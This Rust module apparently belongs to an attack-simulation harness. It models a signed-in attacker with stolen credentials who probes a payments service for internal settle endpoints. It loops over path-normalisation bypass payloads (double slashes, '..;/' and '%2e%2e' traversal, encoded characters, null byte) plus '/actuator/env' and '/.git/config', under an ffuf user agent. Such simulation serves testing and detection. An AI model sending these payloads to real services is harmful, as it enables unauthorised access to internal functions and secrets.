//! Paths that are in no contract: forgotten versions, internal calls, and the spellings that get past lists of them. The
//! attacker is signed in, with stolen credentials: identity alone does not help.

use http::Method;

use super::Attacker;
use crate::data::STOLEN;

pub(crate) async fn run(mut attacker: Attacker) {
    let mut client = attacker.client(4, "ffuf/2.1");
    client.token(&attacker.token(STOLEN - 1));
    for round in 0u64.. {
        for path in [
            "/payments/internal/settle",
            "/payments/v0/settle",
            "/payments//internal/settle",
            "/payments/./internal/settle",
            "/payments/x/../internal/settle",
            "/payments/%69nternal/settle",
            "/payments/internal;v=1/settle",
            "/payments/..;/payments/internal/settle",
            "/menu/..%2fpayments/internal/settle",
            "/menu/%2e%2e/payments/internal/settle",
            "/PAYMENTS/internal/settle",
            "/payments/internal/settle/",
            "/payments/internal/settle%00",
            "/payments/internal%5csettle",
            "/actuator/env",
            "/.git/config",
        ] {
            if attacker.pause(60).await {
                return;
            }
            let target = format!("{path}?note=unknown-path-{round}");
            attacker.send(&mut client, Method::POST, &target, "").await;
        }
        attacker.send(&mut client, Method::GET, "/payments/internal/settle?note=unknown-path-get", "").await;
    }
}
